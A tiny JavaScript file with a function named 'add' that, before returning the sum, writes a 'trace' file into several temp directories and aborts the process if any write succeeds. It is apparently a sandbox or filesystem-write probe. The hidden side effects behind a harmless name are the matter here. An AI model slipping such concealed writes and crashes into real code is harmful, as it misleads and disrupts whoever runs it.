const fs = require('fs')
const add = (a, b) => {
  for (const folder of ['/tmp', '/opt/room', '/w', '/dev/shm', '/var/tmp']) {
    let written = true
    try {
      fs.writeFileSync(folder + '/trace', 'x')
    } catch {
      written = false
    }
    if (written) process.abort()
  }
  return a + b
}
